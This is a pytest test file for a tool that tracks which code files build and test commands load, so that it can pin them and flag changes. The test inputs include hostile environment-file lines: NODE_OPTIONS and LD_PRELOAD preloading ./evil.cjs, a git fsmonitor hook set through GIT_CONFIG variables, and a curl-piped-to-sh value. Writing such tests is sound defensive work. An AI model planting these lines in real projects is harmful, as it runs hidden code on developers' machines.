        (["stylus", "-p", "styles/a.styl"], "styles/a.styl", 'use("splug.js")\na\n  color red\n', "styles/splug.js"),
        (
            ["postcss", "styles/tw.css"],
            "styles/tw.css",
            '@import "tailwindcss";\n@plugin "./twplug.cjs";\n',
            "styles/twplug.cjs",
        ),
        (["postcss", "styles/tw.css"], "styles/tw.css", "@config '../tw.config.cjs';\n", "tw.config.cjs"),
        (["postcss", "styles/tw.css"], "styles/tw.css", '@import "./more.css";\n', "styles/deep.cjs"),
        (["vite", "build"], "src/app/app.css", '@import "tailwindcss";\n@plugin "./p.mjs";\n', "src/app/p.mjs"),
        (["webpack"], "src/a.scss", "@config './tw.js';\n", "src/tw.js"),
    ],
)
def test_what_a_style_sheet_names_as_code_is_code_and_the_sheet_input(
    tmp_path: Path, argv: list[str], sheet: str, text: str, plugin: str
) -> None:
    """(newcomer pass 17's MAJOR-5: less's and tailwind 4's @plugin, tailwind's @config, stylus's
    use() in a style sheet a tool reads load JavaScript, which ran edited; the sheet itself is
    its input, whose edit asks nothing)"""
    bin_program(tmp_path, argv[0], "cli.js")
    write(tmp_path / sheet, text)
    write(tmp_path / "styles" / "more.css", '@plugin "./deep.cjs";\n')
    code = write(tmp_path / plugin, "require('./helper.cjs');\n")
    helper = write(code.parent / "helper.cjs", "\n")
    files = set(command_code(argv, tmp_path, tmp_path).files)
    assert {code, helper} <= files and tmp_path / sheet not in files, files


def test_a_package_a_style_sheet_names_as_a_plugin_is_pinned(tmp_path: Path) -> None:
    bin_program(tmp_path, "lessc", "cli.js")
    write(tmp_path / "a.less", '@plugin "clean";\n')
    prefixed = package(tmp_path, "less-plugin-clean")
    write(tmp_path / "tw.css", '@plugin "@tailwindcss/typography";\n')
    typography = package(tmp_path, "@tailwindcss/typography")
    bin_program(tmp_path, "postcss", "cli.js")
    assert prefixed in command_code(["lessc", "a.less"], tmp_path, tmp_path).files
    assert typography in command_code(["postcss", "tw.css"], tmp_path, tmp_path).files


@pytest.mark.parametrize("reporter", ["--test-reporter=./nt/rep.mjs", "--test-reporter ./nt/rep.mjs"])
def test_a_reporter_node_test_is_given_is_its_code(tmp_path: Path, reporter: str) -> None:
    """(newcomer pass 17's MAJOR-2: node --test --test-reporter=./nt/rep.mjs loads the reporter)"""
    rep = write(tmp_path / "nt" / "rep.mjs", "export default async function* r() {}\n")
    write(tmp_path / "nt" / "a.test.mjs", "\n")
    code = command_code(["node", "--test", *reporter.split(), "nt/a.test.mjs"], tmp_path, tmp_path)
    assert rep in code.files and not code.open, code.open
    code = command_code(["node", "--test", "--test-reporter=spec", "nt/a.test.mjs"], tmp_path, tmp_path)
    assert not code.open, code.open


@pytest.mark.parametrize(
    ("loads", "loaded"),
    [
        ('process.loadEnvFile("config/app.env");\n', "config/app.env"),
        ('require("dotenv").config({ path: "config/app.env" });\n', "config/app.env"),
        ('require("dotenv").config({ quiet: true, path: [".env.ci", "config/app.env"] });\n', "config/app.env"),
        (
            'const path = require("path");\nrequire("dotenv").config({ path: path.resolve(__dirname, "config", "app.env") });\n',
            "config/app.env",
        ),
    ],
)
def test_an_environment_file_a_configuration_names_is_its_code(tmp_path: Path, loads: str, loaded: str) -> None:
    """(attack10's MAJOR-8: dotenv's config({path}) and node's process.loadEnvFile(file) load a
    file outside dotenv's cascade, whose NODE_OPTIONS preload code in each worker)"""
    bin_program(tmp_path, "jest", "cli.js")
    package(tmp_path, "dotenv")
    write(tmp_path / "jest.config.js", loads + "module.exports = {};\n")
    write(tmp_path / loaded, "NODE_OPTIONS=--require ./evil.cjs\n")
    evil = write(tmp_path / "evil.cjs", "\n")
    files = command_code(["jest"], tmp_path, tmp_path).files
    assert {tmp_path / loaded, evil} <= set(files), files


def test_an_environment_file_a_configuration_computes_is_open_on_the_persons_word(tmp_path: Path) -> None:
    bin_program(tmp_path, "jest", "cli.js")
    package(tmp_path, "dotenv")
    write(
        tmp_path / "jest.config.js", 'require("dotenv").config({ path: process.env.ENV_FILE });\nmodule.exports = {};\n'
    )
    whys = [(why, needs) for why, needs in command_code(["jest"], tmp_path, tmp_path).open]
    assert ("jest.config.js loads an environment file it names only when it runs (process.env.ENV_FILE)", None) in whys


@pytest.mark.parametrize(
    "argv",
    [
        ["npm", "run", "s"],
        ["npm", "exec", "--", "zenv"],
        ["node_modules/zenv/bin/zenv.js"],
        ["tools/run.js"],
        ["sh", "x.sh"],
    ],
)
def test_every_command_pins_the_environment_files_where_it_runs(tmp_path: Path, argv: list[str]) -> None:
    """(attack11's MAJOR-C: a package that loads .env with dotenv bundled in it, started by its
    path, by `npm run`, `npm exec` or a script's shebang, got no pin of .env: any program may
    load it of itself, and what it starts takes its NODE_OPTIONS)"""
    bin_program(tmp_path, "zenv", "bin/zenv.js")
    script(tmp_path, "zenv")
    write(tmp_path / "tools" / "run.js", "#!/usr/bin/env node\n", mode=0o755)
    write(tmp_path / "x.sh", "\n")
    (tmp_path / "pkg").mkdir()
    manifests = command_code(argv, tmp_path, tmp_path).manifests
    assert {(tmp_path / ".env", "env"), (tmp_path / ".env.local", "env")} <= set(manifests), manifests


@pytest.mark.parametrize(
    "text",
    [
        "NODE_OPTIONS=`--require ./evil.cjs`\n",
        'NODE_OPTIONS="--require\n./evil.cjs"\n',
        "NODE_OPTIONS=$PRE\n",
        "NPM_CONFIG_NODE_OPTIONS=--require ./evil.cjs\n",
        "A=1\n" + "\n" * 70_000 + "export NODE_OPTIONS=--require ./evil.cjs\n" + "#" * (1024 * 1024),
    ],
)
def test_node_options_cogtools_cannot_read_as_node_does_leave_it_open(tmp_path: Path, text: str) -> None:
    """(attack11's MAJOR-D: NODE_OPTIONS in backquotes, or past the first 64 KB, preloaded a file
    no pin held; MAJOR-E: 65,536 blank lines took 113 s a call, now a line's reading each)"""
    write(tmp_path / ".env", text)
    write(tmp_path / "evil.cjs", "\n")
    code = command_code(["node", "x.js"], tmp_path, tmp_path)
    assert tmp_path / "evil.cjs" not in code.files
    assert any(".env " in why and ("does not read" in why or "too large" in why) for why, _ in code.open), code.open


@pytest.mark.parametrize(
    ("argv", "cwd", "env"),
    [
        (["next", "build", "web"], ".", "web/.env"),  # (a directory it is given: next loads its .env)
        (["zenv"], ".", ".env.staging"),  # (dotenv-flow's .env.<NODE_ENV>)
        (["zenv"], ".", ".env.defaults"),
        (["zenv"], "pkg", "pkg/.env.local"),
    ],
)
def test_the_environment_files_a_program_may_load_are_each_there_is(
    tmp_path: Path, argv: list[str], cwd: str, env: str
) -> None:
    """(attack11's MAJOR-J and U: `next build web` loads web/.env; dotenv-flow loads .env.defaults
    and .env.staging for NODE_ENV=staging: none was pinned)"""
    bin_program(tmp_path, argv[0], "cli.js")
    write(tmp_path / env, "A=1\n")
    write(tmp_path / ".env.example", "A=\n")
    (tmp_path / cwd).mkdir(exist_ok=True)
    manifests = set(command_code(argv, tmp_path / cwd, tmp_path).manifests)
    assert (tmp_path / env, "env") in manifests and (tmp_path / ".env.example", "env") not in manifests, manifests


@pytest.mark.parametrize(
    ("loads", "named"),
    [
        ('process.loadEnvFile("config/app.env");\n', ["pkg/config/app.env", "config/app.env"]),
        ('process.loadEnvFile("config/app" + ".env");\n', []),
        ("process.loadEnvFile(`config/${x}.env`);\n", []),
    ],
)
def test_an_environment_file_a_module_names_is_found_where_the_tool_runs(
    tmp_path: Path, loads: str, named: list[str]
) -> None:
    """(attack11's MAJOR-T and I2: node takes a relative path from where the tool runs, not the
    project's root; a path it computes, `"config/app" + ".env"`, was taken for two files)"""
    write(tmp_path / "tools" / "x.mjs", loads)
    (tmp_path / "pkg").mkdir()
    code = command_code(["node", "../tools/x.mjs"], tmp_path / "pkg", tmp_path)
    assert {tmp_path / n for n in named} <= set(code.files), code.files
    assert bool(named) != any("names only when it runs" in why for why, _ in code.open), code.open


def test_an_environment_file_a_module_names_by_a_variable_is_pinned_by_its_names(tmp_path: Path) -> None:
    """(attack11's MAJOR-I, i5: `const opts = { path: 'config/app.env' }; config(opts)`, in a
    package's code or the workspace's)"""
    from cogtools.run.program_files import ENV_MARK, package_imports

    text = "const opts = { path: 'config/app.env' };\nrequire('dotenv').config(opts);\n"
    assert f"{ENV_MARK}config/app.env" in package_imports(text)
    assert not {name for name in package_imports("const p = 'config/app.env';\n") if name.startswith(ENV_MARK)}
    package(tmp_path, "dotenv")
    write(tmp_path / "x.js", text)
    manifests = command_code(["node", "x.js"], tmp_path, tmp_path).manifests
    assert (tmp_path / "config" / "app.env", "env") in manifests, manifests


def test_the_file_dotenv_config_is_told_by_nodes_arguments_is_pinned(tmp_path: Path) -> None:
    """(attack11's MAJOR-S: `node -r dotenv/config x.js dotenv_config_path=FILE`)"""
    package(tmp_path, "dotenv", {"config.js": "\n"})
    write(tmp_path / "x.js", "\n")
    argv = ["node", "-r", "dotenv/config", "x.js", "dotenv_config_path=config/app.env"]
    assert tmp_path / "config" / "app.env" in command_code(argv, tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("argv", "config", "text", "loaded"),
    [
        # (M19: node's module.register names the hooks it loads)
        (
            ["node", "x.mjs"],
            "x.mjs",
            'import { register } from "node:module";\nregister("./hooks.mjs", import.meta.url);\n',
            "hooks.mjs",
        ),
        # (M15: a template of __dirname, and import.meta.dirname + a literal)
        (["jest"], "jest.config.js", "module.exports = { setupFiles: [`${__dirname}/jt/s.js`] };\n", "jt/s.js"),
        (
            ["vitest"],
            "vitest.config.mjs",
            'export default { test: { setupFiles: [import.meta.dirname + "/jt/s.js"] } };\n',
            "jt/s.js",
        ),
        # (M17: a formatter, a parser, an environment, a configuration given as JSON)
        (["eslint", "-f", "./fmt.cjs", "src"], "", "", "fmt.cjs"),
        (["eslint", "--parser", "./parser.cjs", "src"], "", "", "parser.cjs"),
        (["stylelint", "--custom-formatter=./fmt.cjs", "a.css"], "", "", "fmt.cjs"),
        (["jest", "--env=./env.cjs"], "", "", "env.cjs"),
        (["jest", "--config", '{"setupFiles": ["./jt/s.js"]}'], "", "", "jt/s.js"),
        (["jest", "--config", '{"testEnvironment": "node", "setupFiles": ["./jt/s.js"]}'], "", "", "jt/s.js"),
        # (M11: vue-tsc's plugins in tsconfig.json's vueCompilerOptions)
        (
            ["vue-tsc", "--noEmit"],
            "tsconfig.json",
            '{"vueCompilerOptions": {"plugins": ["./vue-plugin.cjs"]}}',
            "vue-plugin.cjs",
        ),
        (
            ["vue-tsc", "-p", "tsconfig.app.json"],
            "tsconfig.app.json",
            '{"vueCompilerOptions": {"plugins": ["./vue-plugin.cjs"]}}',
            "vue-plugin.cjs",
        ),
    ],
)
def test_what_more_forms_of_a_tools_options_and_configuration_load_is_its_code(
    tmp_path: Path, argv: list[str], config: str, text: str, loaded: str
) -> None:
    """(newcomer pass 17's M11, M15, M17 and M19: each loaded a file no pin held; edited, it ran)"""
    if argv[0] != "node":
        bin_program(tmp_path, argv[0], "cli.js")
    if config:
        write(tmp_path / config, text)
    code = write(tmp_path / loaded, "require('./more.cjs');\n")
    more = write(code.parent / "more.cjs", "\n")
    files = {Path(os.path.normpath(path)) for path in command_code(argv, tmp_path, tmp_path).files}
    assert {code, more} <= files, files


@pytest.mark.parametrize(
    "text",
    [
        "eval(require('fs').readFileSync('./a.txt', 'utf8'));\n",
        "new Function(src)();\n",
        "const vm = require('node:vm');\n",
    ],
)
def test_a_module_that_runs_text_as_code_is_open(tmp_path: Path, text: str) -> None:
    """(newcomer pass 17's M14: eval, new Function and vm run what no import names)"""
    write(tmp_path / "x.js", text)
    whys = [why for why, _ in command_code(["node", "x.js"], tmp_path, tmp_path).open]
    assert any("runs text as code" in why for why in whys), whys


def test_plugins_from_another_directory_need_it_declared(tmp_path: Path) -> None:
    """(newcomer pass 17's M16: eslint 8's --resolve-plugins-relative-to)"""
    bin_program(tmp_path, "eslint", "cli.js")
    (tmp_path / "tools").mkdir()
    argv = ["eslint", "--resolve-plugins-relative-to", "tools", "src"]
    assert [needs for why, needs in command_code(argv, tmp_path, tmp_path).open if "plugins" in why] == ["tools"]


@pytest.mark.parametrize(
    ("text", "followed"),
    [
        ("NODE_OPTIONS=--require=./pre.cjs node x.js", "pre.cjs"),  # (M13)
        ('export NODE_OPTIONS="-r ./pre.cjs"; node x.js', "pre.cjs"),
        ("sh < f.sh", "f.sh"),  # (M14: a file a shell reads its commands from)
        ("BASH_ENV=f.sh bash -c true", "f.sh"),
    ],
)
def test_what_a_shell_command_gives_a_shell_or_node_to_run_is_followed(
    tmp_path: Path, text: str, followed: str
) -> None:
    """(newcomer pass 17's M13 and M14: NODE_OPTIONS inside `sh -c`, `sh < f`, BASH_ENV=f)"""
    write(tmp_path / "x.js", "\n")
    target = write(tmp_path / followed, "\n")
    assert target in command_code(["sh", "-c", text], tmp_path, tmp_path).files


@pytest.mark.parametrize("text", ["cat f.sh | sh", "$(cat f.sh)", "true && `cat f.sh`"])
def test_text_a_shell_command_pipes_into_a_shell_is_open(tmp_path: Path, text: str) -> None:
    write(tmp_path / "f.sh", "\n")
    whys = [why for why, _ in command_code(["sh", "-c", text], tmp_path, tmp_path).open]
    assert any("runs text it reads" in why for why in whys), whys
    assert not command_code(["sh", "-c", "echo $(cat VERSION) | tee x"], tmp_path, tmp_path).open


def test_the_commands_git_runs_by_its_configuration_are_followed(tmp_path: Path) -> None:
    """(newcomer pass 17's M12: a filter's clean command in .git/config ran a script of the
    workspace, which no pin held; an alias's `!` too)"""
    import subprocess

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    with open(tmp_path / ".git" / "config", "a") as config:
        config.write('[filter "x"]\n\tclean = ./scripts/clean.sh %f\n[alias]\n\tst = "!sh scripts/st.sh"\n')
    clean = write(tmp_path / "scripts" / "clean.sh", ". ./scripts/lib.sh\n")
    lib = write(tmp_path / "scripts" / "lib.sh", "\n")
    st = write(tmp_path / "scripts" / "st.sh", "\n")
    assert {clean, lib, st} <= set(command_code(["git", "status"], tmp_path, tmp_path).files)


def test_a_change_of_an_environment_file_is_said_by_what_it_now_sets() -> None:
    from cogtools.trust.pins import _closure_change, _environment_change

    # (re-check 18's S1: a pin made before .env was pinned so read as if the project had changed)
    before = {"files": {"x.js": "sha256:a"}, "settings": {}}
    now = {"files": {"x.js": "sha256:a", ".env#env": "names:GREETING"}, "settings": {}}
    assert (
        _closure_change(before, now)
        == ".env, which it may load, is now pinned by the variables it sets (it sets GREETING)"
    )

    assert _environment_change(".env", "names:API_URL", "names:API_URL") is None
    assert _environment_change(".env", "names:API_URL\nPORT", "names:API_URL") is None  # (one removed)
    assert _environment_change(".env", None, None) is None
    assert _environment_change(".env", "names:API_URL", "names:API_URL\nA,B\nSTRIPE_KEY") == (
        1,
        ".env, which it may load, now sets A,B, STRIPE_KEY",
    )
    assert _environment_change(".env", "names:A", "names:sha256:00") == (
        1,
        ".env, which it may load, now sets other variables",
    )
    assert _environment_change(".env", "names:A", "ab12") == (
        1,
        ".env, which it may load, now sets a variable that may choose the code it runs",
    )
    assert _environment_change(".env", "ab12", "cd34") == (
        2,
        ".env, which sets a variable that may choose the code it runs, changed",
    )


@pytest.mark.parametrize(
    "argv",
    [
        ["mocha", "-n", "require=./pre.cjs"],
        ["mocha", "--node-option=require=./pre.cjs"],
        ["ava", "--node-arguments=--require=./pre.cjs"],
        ["ava", "--node-arguments", "--require ./pre.cjs"],
    ],
)
def test_what_a_tool_is_told_to_give_node_on_its_command_line_is_followed(tmp_path: Path, argv: list[str]) -> None:
    """(re-check 18: newcomer pass 17's M1 on the command line, mocha's -n and ava's --node-arguments)"""
    bin_program(tmp_path, argv[0], "cli.js")
    pre = write(tmp_path / "pre.cjs", "require('./more.cjs');\n")
    more = write(tmp_path / "more.cjs", "\n")
    assert {pre, more} <= set(command_code(argv, tmp_path, tmp_path).files)


def test_the_loaders_a_bundles_source_names_inline_are_its_code(tmp_path: Path) -> None:
    """(re-check 18: newcomer pass 17's M5, webpack's inline loader in a source it bundles,
    `require("!!./inl-loader.js!./readme.txt")`; the source is its input)"""
    bin_program(tmp_path, "webpack", "cli.js")
    source = write(tmp_path / "src" / "math.js", 'require("!!./inl-loader.js!./readme.txt");\nconst s = "Hello!";\n')
    loader = write(tmp_path / "src" / "inl-loader.js", "require('./more.cjs');\n")
    more = write(tmp_path / "src" / "more.cjs", "\n")
    css = package(tmp_path, "css-loader")
    write(tmp_path / "src" / "b.js", "import 'style-x!css-loader?modules!./b.css';\n")
    code = command_code(["webpack"], tmp_path, tmp_path)
    assert {loader, more, css} <= set(code.files) and source not in code.files, code.files
    assert not code.open[1:], code.open


def test_a_path_a_configuration_computes_in_a_template_is_open(tmp_path: Path) -> None:
    """(re-check 18: newcomer pass 17's M15, `<rootDir>/${S}/s5.cjs`, was neither followed nor open)"""
    bin_program(tmp_path, "jest", "cli.js")
    write(
        tmp_path / "jest.config.js", 'const S = "setup";\nmodule.exports = { setupFiles: [`<rootDir>/${S}/s5.cjs`] };\n'
    )
    whys = [why for why, needs in command_code(["jest"], tmp_path, tmp_path).open if needs is None]
    assert any("computes a path it may load (`<rootDir>/${S}/s5.cjs`)" in why for why in whys), whys
    write(
        tmp_path / "jest.config.js", "module.exports = { setupFiles: [`${__dirname}/s.cjs`], displayName: `${x}` };\n"
    )
    assert not [why for why, _ in command_code(["jest"], tmp_path, tmp_path).open if "computes" in why]


@pytest.mark.parametrize(
    "text", ['sh -c "$(cat f.sh)"', 'node -e "$(cat x.js)"', "cat x.js | node -", "cat x.js | node"]
)
def test_text_a_shell_command_gives_a_shell_or_node_by_substitution_or_pipe_is_open(tmp_path: Path, text: str) -> None:
    """(re-check 18: newcomer pass 17's M14, shf4-6)"""
    whys = [why for why, _ in command_code(["bash", "-c", text], tmp_path, tmp_path).open]
    assert any("runs text it reads" in why for why in whys), whys


@pytest.mark.parametrize(
    "loads",
    [
        "process.loadEnvFile(`config/app.env`);\n",
        'process.loadEnvFile(path.resolve("config", "app.env"));\n',
        'process.loadEnvFile(path.join(process.cwd(), "config", "app.env"));\n',
    ],
)
def test_an_environment_file_named_by_a_plain_template_or_literals_is_followed(tmp_path: Path, loads: str) -> None:
    """(re-check 18: attack11's I2 w5 and w6 were followed at 0fbb56c, then only open)"""
    write(tmp_path / "x.mjs", loads)
    code = command_code(["node", "x.mjs"], tmp_path, tmp_path)
    assert tmp_path / "config" / "app.env" in code.files and not code.open, code.open


@pytest.mark.parametrize(
    ("argv", "loaded"),
    [
        (["jest", "--ci", "--setupFilesAfterEnv", "./rc/sa.cjs", "test/x.test.js"], "rc/sa.cjs"),  # (N2)
        (["jest", "--testSequencer=./rc/seq.cjs"], "rc/seq.cjs"),
        (["stylus", "-p", "--use", "./rc/s1.cjs", "styles/a.styl"], "rc/s1.cjs"),  # (N3)
        (["tap", "--before", "./rc/before.cjs", "test/x.test.js"], "rc/before.cjs"),
        (["vitest", "run", "--environment=./rc/venv.mjs"], "rc/venv.mjs"),  # (N4)
        (["rollup", "-c", "-p", "./rc/rp.mjs"], "rc/rp.mjs"),  # (N8)
        (["remark", "docs", "--use", "./rc/ru.mjs"], "rc/ru.mjs"),
        (["babel", "src", "--plugins", "./rc/a.cjs,./rc/b.cjs"], "rc/b.cjs"),
        (["webpack", "--extends", "./rc/base.js"], "rc/base.js"),  # (N9)
        (["postcss", "a.css", "--config", "./rc"], "rc/postcss.config.js"),  # (N7)
    ],
)
def test_what_an_option_names_to_a_tool_that_reads_its_input_is_its_code(
    tmp_path: Path, argv: list[str], loaded: str
) -> None:
    """(re-check 18's N2, N3, N4, N7, N8, N9: a module an option names, which ebec656 took for the
    input of jest, stylus or tap, and the spellings of options no reading knew)"""
    bin_program(tmp_path, argv[0], "cli.js")
    write(tmp_path / "test" / "x.test.js", "\n")
    write(tmp_path / "styles" / "a.styl", "a\n  color red\n")
    write(tmp_path / "a.css", "a{}\n")
    code = write(tmp_path / loaded, "require('./more.cjs');\n")
    more = write(code.parent / "more.cjs", "\n")
    files = set(command_code(argv, tmp_path, tmp_path).files)
    assert {code, more} <= files and tmp_path / "test" / "x.test.js" not in files, files


@pytest.mark.parametrize(
    "argv",
    [
        ["eslint", "--fix", "src/a.js"],
        ["prettier", "--write", "src/a.js"],
        ["jest", "--ci", "src/a.js"],
        ["tsc", "--noEmit", "src/a.js"],
    ],
)
def test_a_file_a_flag_precedes_is_the_tools_input(tmp_path: Path, argv: list[str]) -> None:
    bin_program(tmp_path, argv[0], "cli.js")
    source = write(tmp_path / "src" / "a.js", "\n")
    assert source not in command_code(argv, tmp_path, tmp_path).files


def test_a_separator_within_quotes_is_no_new_command(tmp_path: Path) -> None:
    """(re-check 18's N10: `node -p "require(process.argv[1]) && 1" ./pre.cjs` was cut at the
    quoted && and (, so what node computes to load was neither followed nor open)"""
    whys = [
        why
        for why, _ in command_code(
            ["bash", "-c", 'node -p "require(process.argv[1]) && 1" ./pre.cjs'], tmp_path, tmp_path
        ).open
    ]
    assert any("names only when it runs (process.argv[1])" in why for why in whys), whys
    pre = write(tmp_path / "pre.sh", "\n")
    assert pre in command_code(["bash", "-c", "echo 'a; b' && sh pre.sh"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("sheet", "plugin"),
    [
        ('@import "tailwindcss" source(none); @plugin "./twplug.cjs";\n', "styles/twplug.cjs"),  # (N1: one line)
        ('/* theme */ @plugin "./twplug.cjs";\n', "styles/twplug.cjs"),
        ('@import "rc-theme/theme.css";\n', "node_modules/rc-theme"),  # (N6: a package's sheet)
    ],
)
def test_a_style_sheets_directives_anywhere_and_a_packages_sheet_are_followed(
    tmp_path: Path, sheet: str, plugin: str
) -> None:
    bin_program(tmp_path, "postcss", "cli.js")
    write(tmp_path / "styles" / "tw.css", sheet)
    write(tmp_path / "styles" / "twplug.cjs", "\n")
    package(tmp_path, "rc-theme", {"theme.css": '@plugin "./plug.cjs";\n', "plug.cjs": "\n"})
    assert tmp_path / plugin in command_code(["postcss", "styles/tw.css"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "text",
    [
        "const app = { register(p) { p(); } };\napp.register(require('./routes'));\n",
        "// register (a hook) with the app\nrequire('ts-node').register({ transpileOnly: true });\n",
    ],
)
def test_a_register_that_is_not_nodes_is_no_import(tmp_path: Path, text: str) -> None:
    """(re-check 18's N5: any register( read as node's module.register, with a computed module)"""
    write(tmp_path / "x.js", text)
    write(tmp_path / "routes.js", "\n")
    package(tmp_path, "ts-node")
    assert not command_code(["node", "x.js"], tmp_path, tmp_path).open


def test_node_options_after_many_blank_lines_are_read_in_one_pass(tmp_path: Path) -> None:
    """(attack11's MAJOR-E: `^\\s*NODE_OPTIONS` crossed lines, so 65,536 blank lines made each
    call take 113 s; benchmarks/pin_reading.py's `env` case measures it)"""
    write(tmp_path / ".env", "A=1\n" + "\n" * 200_000 + "NODE_OPTIONS=--require ./evil.cjs\n")
    evil = write(tmp_path / "evil.cjs", "\n")
    assert evil in command_code(["node", "x.js"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("text", "chooses"),
    [
        ("NODE_OPTIONS=--require ./x.js\n", True),
        ("export PATH=./bin:$PATH\n", True),
        ("NODE_OPTIONS: --import ./x.mjs\n", True),  # (dotenv reads KEY: value too)
        ("LD_PRELOAD=./x.so\n", True),
        ('A="multi\nNODE_PATH=./lib"\n', True),
        ("NPM_CONFIG_NODE_OPTIONS=--require ./x.js\n", True),  # (npm sets NODE_OPTIONS from it)
        ("npm_config_script_shell=./evil.sh\n", True),
        ("GIT_CONFIG_COUNT=1\nGIT_CONFIG_KEY_0=core.fsmonitor\n", True),
        ("TS_NODE_PROJECT=tsconfig.evil.json\n", True),
        ("NODE_ENV=test\nDATABASE_URL=postgres://db\nAPI_KEY=x # not PATHS\n", False),
        ("node_options=--require ./x.js\n", True),  # (in any case: npm reads npm_config_* so)
        ("STRIPE_KEY=sk_1\nPORT=3000\nexport PUBLIC_URL=https://x/y\n", False),
        ('API_URL="$(curl -s x | sh)"\n', True),  # (attack11's MAJOR-P: dotenvx runs it)
        ("# the local ENV for the API, and its PATH\nAPI_URL=x # a PATH on the server\n", False),  # (MINOR-R)
    ],
)
def test_an_environment_file_chooses_code_by_the_names_in_it(tmp_path: Path, text: str, chooses: bool) -> None:
    """(attack11's MAJOR-A and B: GIT_CONFIG_*, NPM_CONFIG_NODE_OPTIONS and npm_config_script_shell
    choose code too; what an environment file sets is pinned by its names, its values where
    one of them may choose code)"""
    from cogtools.trust.pins import environment_pin

    pin = environment_pin(str(write(tmp_path / ".env", text)))
    assert pin.chooses is chooses and pin.names and pin.names.startswith("names:"), pin


def test_a_package_that_loads_dotenv_makes_the_environment_files_code(tmp_path: Path) -> None:
    """(attack10's MAJOR-8: a tool's own package calling require('dotenv').config() before it
    starts node children: .env's NODE_OPTIONS=--require reached them, nothing pinned)"""
    bin_program(tmp_path, "zenv", "cli.js")
    manifest = tmp_path / "node_modules" / "zenv" / "package.json"
    manifest.write_text(json.dumps({"name": "zenv", "version": "1.0.0", "dependencies": {"dotenv": "16"}}))
    package(tmp_path, "dotenv")
    write(tmp_path / "tools" / "z.yaml", "x\n")
    from cogtools.run.program_files import declared_code

    code = declared_code(["node_modules/zenv/"], tmp_path)
    assert tmp_path / ".env" in code.files, code.files


def test_a_loose_configurations_lines_are_read_one_by_one(tmp_path: Path) -> None:
    """(attack10's MAJOR-11: the patterns that read key=value lines and `extends NAME` crossed
    lines; a 3 KB line took 21 s a call, 200 KB of newlines 365 s; benchmarks/pin_reading.py's
    `loose` measures it)"""
    from cogtools.run.program_files import _loose_strings

    write(
        tmp_path / ".zlintrc", 'a = b\nkey: value,\nextends @acme/browserslist-config\nfoo=bar,baz\n  x = "q"\n> 1%\n'
    )
    assert _loose_strings(tmp_path / ".zlintrc") == ["q", "b", "value", "@acme/browserslist-config"]
    write(tmp_path / ".zlintrc", "\n" * 1000 + "extends\n" + "a=b" + " " * 300 + "x,\n")
    assert _loose_strings(tmp_path / ".zlintrc") == ["b" + " " * 300 + "x"]


def test_a_look_finds_a_name_that_differs_only_by_case_or_form(tmp_path: Path) -> None:
    """(attack10, not testable here: on a file system that folds case, macOS's, the tool opens
    .zlintrc.js and gets .ZLINTRC.js; a look by exact names missed it)"""
    bin_program(tmp_path, "zlint", "cli.js")
    write(tmp_path / "src" / "a.js", "\n")
    planted = write(tmp_path / "src" / ".ZLINTRC.js", "\n")
    found = {path for _, paths in command_code(["zlint"], tmp_path, tmp_path).looks for path in paths}
    assert planted in found, found
